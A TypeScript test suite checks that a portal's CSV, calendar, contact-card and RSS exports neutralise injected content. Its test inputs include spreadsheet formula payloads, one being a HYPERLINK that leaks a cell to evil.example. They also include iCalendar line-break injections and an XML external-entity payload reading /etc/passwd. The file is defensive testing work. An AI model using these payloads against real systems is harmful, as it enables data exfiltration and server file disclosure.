import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import ICAL from 'ical.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eventRegistrations } from '../../server/database/schema/events.ts';
import { newsletterSubscribers } from '../../server/database/schema/newsletter.ts';
import { siteSettings } from '../../server/database/schema/site.ts';
import { createTestApp, type TestApp } from '../support/app.ts';
import { contractEndpoints, endpointName } from '../support/contract-endpoints.ts';
import { createEvent, createNews, createOpenEvent, createUser, signedIn } from '../support/factories.ts';
import { readCsv } from './read-csv.ts';

let portal: TestApp;
let admin: Awaited<ReturnType<typeof signedIn>>;
beforeAll(async () => {
  portal = await createTestApp({ config: { publicUrl: 'https://portal.example' } });
  admin = await signedIn(portal, { role: 'admin' });
});
afterAll(() => portal.close());

it('every file that the portal makes for other programs is looked at here', async () => {
  const files = (await contractEndpoints()).filter(({ path }) => /\.(?!json)\w+$/.test(path)).map(endpointName);
  expect(files.sort()).toEqual([
    // Its own test reads it: `server/services/audit/audit.routes.test.ts`.
    'GET /api/admin/audit.csv',
    // Workbooks have their own test: `server/core/table-file.test.ts`.
    'GET /api/admin/contact-messages.csv',
    'GET /api/admin/contact-messages.xlsx',
    'GET /api/admin/events/:id/attendees.csv',
    'GET /api/admin/events/:id/attendees.xlsx',
    'GET /api/admin/forum/posts.csv',
    'GET /api/admin/forum/posts.xlsx',
    'GET /api/admin/members.csv',
    'GET /api/admin/members.xlsx',
    'GET /api/admin/newsletter/subscribers.csv',
    'GET /api/admin/newsletter/subscribers.xlsx',
    // Figures only: its own test reads it.
    'GET /api/admin/stats/periods.csv',
    'GET /api/events/:id/calendar.ics',
    'GET /api/events/calendar.ics',
    'GET /api/members/:id/contact.vcf',
    'GET /api/news/rss.xml',
  ]);
});

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"clic")',
  '=1,=1',
  '=1\r\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  'X;=1+1;Y',
  'X;＝1+1;Y',
  'X; "=1+1"',
  'X";"=1+1";"',
  'X|@SUM(A1)',
  'X\t-1+1',
  'Hola\n=HYPERLINK("https://evil.example")',
  'Hola\r\n\u00a0＋1',
];
const HARMLESS = ['a,b', 'a"b', 'a\r\nb', "'=1", ' a', 'a=1', '"', ''];
const RUNS = /^[\s"]*[=+\-@＝＋－＠]/;

/** A telephone is no formula. */
const PHONE = /^"?\+\d{7,15}"?$/;

/** What a spreadsheet may take for a cell, told any separator, with or without respect for quotes. */
function cellsBySeparators(file: string): string[] {
  const options = { relax_quotes: true, relax_column_count: true, bom: true, skip_empty_lines: true };
  const quoted = [',', ';', '\t', '|'].flatMap((delimiter) => {
    try {
      return parse(file, { ...options, delimiter }).flat();
    } catch {
      return parse(file, { ...options, delimiter, quote: false }).flat();
    }
  });
  return [...quoted, ...file.split(/[;\t\r\n|]/)];
}

function expectNoFormula(file: string): void {
  expect(cellsBySeparators(file).filter((cell) => RUNS.test(cell) && !PHONE.test(cell))).toEqual([]);
}

/** Round trip, except for the escapes before what a spreadsheet would run. */
function expectRoundTrip(cells: string[], written: string[]): void {
  const unescaped = cells.map((cell) => cell.replaceAll(/(?<=^|[;\t\r\n|][ \u00a0"]*)'(?=[=+\-@＝＋－＠])/g, ''));
  expect(unescaped.toSorted()).toEqual(written.map((text) => text.replace(/^'(?==)/, '')).toSorted());
}

describe('a table for a spreadsheet', () => {
  it('runs nothing that an attendee is called', async () => {
    const texts = [...FORMULAS, ...HARMLESS];
    const event = await createOpenEvent(portal.database, { title: '=1+1' });
    for (const [index, text] of texts.entries()) {
      const names = { firstName: text, lastName: text, company: text, position: text };
      const email = `${text.startsWith('-') ? '-' : '+'}${index}@prueba.example`;
      const user = await createUser(portal.database, { ...names, phone: text.slice(0, 30), email });
      const registeredAt = new Date(Date.UTC(2030, 0, 1, 12, index));
      await portal.database.insert(eventRegistrations).values({ eventId: event.id, userId: user.id, registeredAt });
    }
    const { body } = await admin.client.get(`/api/admin/events/${event.id}/attendees.csv`);
    const [header, ...rows] = readCsv(body);
    expect(rows).toHaveLength(texts.length);
    expect(rows.every((row) => row.length === header?.length)).toBe(true);
    for (const column of [0, 1, 4, 5])
      expectRoundTrip(
        rows.map((row) => row[column] ?? ''),
        texts,
      );
    expectNoFormula(body);
  });

  it('runs nothing that a subscriber is called', async () => {
    const emails = ['=1+1', '+1', '-1', '@a', '\t=1', '\r=1'].map((text, index) => `${text}${index}@prueba.example`);
    await portal.database.insert(newsletterSubscribers).values(emails.map((email) => ({ email })));
    const { body } = await admin.client.get('/api/admin/newsletter/subscribers.csv');
    expectNoFormula(body);
    const [, ...rows] = readCsv(body);
    expectRoundTrip(
      rows.map(([email = '']) => email),
      emails,
    );
  });

  it('leaves a telephone as it is', async () => {
    const event = await createOpenEvent(portal.database);
    const { id: userId } = await createUser(portal.database, { phone: '+18095550149' });
    await portal.database.insert(eventRegistrations).values({ eventId: event.id, userId });
    const { body } = await admin.client.get(`/api/admin/events/${event.id}/attendees.csv`);
    expect(readCsv(body).flat()).toContain('+18095550149');
  });
});

/** Injections into content lines, the format shared by calendars and contact cards. */
const BREAKOUTS = [
  'END:VEVENT',
  'uno\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:otro',
  'uno\nATTENDEE:mailto:otra@evil.example',
  'uno\rORGANIZER:mailto:otra@evil.example',
  'uno\r\n ATTACH:https://evil.example/x',
  'a;b,c:d\\e\\nf\\',
  '"comillas";CN="otra"',
  'BEGIN:VALARM\nACTION:PROCEDURE',
  'uno\u0085END:VEVENT',
  'uno\u2028END:VEVENT\u2029',
  'uno\u000bdos\u000ctres\u001bcuatro',
  'ñandú 👩‍👩‍👧 '.repeat(12).trim(),
  `${'x'.repeat(60)}\r\nEND:VCARD`,
];
/** Expected text: line breaks normalized, other control characters removed. */
const asWritten = (text: string) => text.replace(/\r\n?/g, '\n').replace(/(?!\n)\p{Cc}/gu, '');

function expectFolded(file: string): void {
  expect(file.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  expect(Math.max(...file.split('\r\n').map((line) => Buffer.byteLength(line)))).toBeLessThanOrEqual(75);
}

const entriesOf = (file: string) =>
  new ICAL.Component(ICAL.parse(file)).getAllSubcomponents('vevent').map((each) => new ICAL.Event(each));

describe('a file for a calendar', () => {
  it('is one entry for each event, with the exact text of every field, whatever was written', async () => {
    const siteName = 'Consejo"\r\nEND:VCALENDAR\r\nX:";y';
    await portal.database.update(siteSettings).set({ siteName, contactEmail: 'oficina@prueba.example' });
    const written = new Map<string, string>();
    for (const text of BREAKOUTS) {
      const fields = {
        title: text,
        description: text,
        location: text,
        category: text.slice(0, 100),
        price: [...text].slice(0, 100).join(''),
      };
      const event = await createEvent(portal.database, {
        ...fields,
        duration: text.slice(0, 50),
        speakers: [text],
        topics: [text],
      });
      written.set(event.id, text);
      const { body, headers } = await portal.visitor().get(`/api/events/${event.id}/calendar.ics`);
      expect(headers['content-disposition']).toMatch(/^attachment; filename="[a-z0-9-]+\.ics"$/);
      expectFolded(body);
      const [entry, ...others] = entriesOf(body);
      expect(others).toEqual([]);
      expect(entry).toMatchObject({ summary: asWritten(text), location: asWritten(text), attendees: [] });
      const description = [text, `Precio: ${fields.price}`, `https://portal.example/events/${event.id}`];
      expect(entry?.description).toBe(description.map(asWritten).join('\n\n'));
      expect(entry?.component.getAllSubcomponents()).toEqual([]);
      expect(entry?.component.getAllProperties('organizer')).toHaveLength(1);
    }
    const { body } = await portal.visitor().get('/api/events/calendar.ics');
    expectFolded(body);
    const summaries = Object.fromEntries(entriesOf(body).map(({ uid, summary }) => [uid, summary]));
    for (const [id, text] of written) expect(summaries[id]).toBe(asWritten(text));
    const components = new ICAL.Component(ICAL.parse(body)).getAllSubcomponents();
    expect(components.every(({ name }) => name === 'vevent')).toBe(true);
  });
});

describe('a contact card', () => {
  it('is one card with the exact text of every field, whatever was written', async () => {
    for (const text of BREAKOUTS.map((each) => [...each].slice(0, 100).join(''))) {
      const names = { firstName: text, lastName: text, company: text, position: text, location: text };
      const user = await createUser(portal.database, { ...names, website: `https://a.example/${text}` });
      const { body, headers } = await admin.client.get(`/api/members/${user.id}/contact.vcf`);
      expect(headers['content-disposition']).toMatch(/^attachment; filename="[a-z0-9-]+\.vcf"$/);
      expectFolded(body);
      expect(body.match(/^(BEGIN|END):VCARD\r$/gm)).toEqual(['BEGIN:VCARD\r', 'END:VCARD\r']);
      const card = new ICAL.Component(ICAL.parse(body));
      const properties = card.getAllProperties().map(({ name }) => name);
      expect(properties).toEqual([...new Set(properties)]);
      // This parser does not unescape semicolons, which only structured values need.
      const read = (name: string) => String(card.getFirstPropertyValue(name)).replaceAll('\\;', ';');
      expect(read('fn')).toBe(`${asWritten(text)} ${asWritten(text)}`);
      expect(read('title')).toBe(asWritten(text));
    }
  });
});

describe('the feed', () => {
  const MARKUP = [
    ']]>',
    '<![CDATA[x]]>',
    '<!-- x --> & &amp; &#60; &nope;',
    '</title></item></channel></rss>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    '<?xml-stylesheet href="https://evil.example"?>',
    '"comillas" y \'otras\'',
    'a\u0001b\u0008c\u000bd\u001fe\ufffef\uffffg',
    'ñ 👩‍👩‍👧 \u2028 \u0085',
  ];
  /** Removes characters that XML does not allow. */
  const writable = (text: string) => text.replace(/(?![\u0085\t\n\r])\p{Cc}|[\ufffe\uffff]/gu, '');
  const unescaped = (text: string) =>
    text
      .replaceAll('&lt;', '<')
      .replaceAll('&gt;', '>')
      .replaceAll('&quot;', '"')
      .replaceAll('&#39;', "'")
      .replaceAll('&amp;', '&');

  /** Read by PostgreSQL's own XML parser. */
  async function texts(feed: string, path: string): Promise<string[]> {
    const { rows } = await portal.database.execute<{ text: string }>(
      sql`select unnest(xpath(${`${path}/text()`}, ${feed.replace(/^<\?xml.*?\?>/, '')}::xml))::text as text`,
    );
    return rows.map(({ text }) => unescaped(text));
  }

  it('is XML with the exact text of every field, whatever was written', async () => {
    const all = MARKUP.join(' ');
    await portal.database.update(siteSettings).set({ siteName: all.slice(0, 100), siteDescription: all.slice(0, 300) });
    for (const [index, text] of MARKUP.entries()) {
      const fields = { title: text, excerpt: text, category: text.slice(0, 100), date: `2030-01-${index + 10}` };
      await createNews(portal.database, fields);
    }
    const { body } = await portal.visitor().get('/api/news/rss.xml');
    const expected = MARKUP.toReversed().map(writable);
    expect(await texts(body, '//item/title')).toEqual(expected);
    expect(await texts(body, '//item/description')).toEqual(expected);
    expect(await texts(body, '//item/category')).toEqual(expected.map((text) => text.slice(0, 100)));
    expect(await texts(body, '/rss/channel/title')).toEqual([`Noticias · ${writable(all.slice(0, 100))}`]);
    expect(await texts(body, '/rss/channel/description')).toEqual([writable(all.slice(0, 300))]);
  });
});
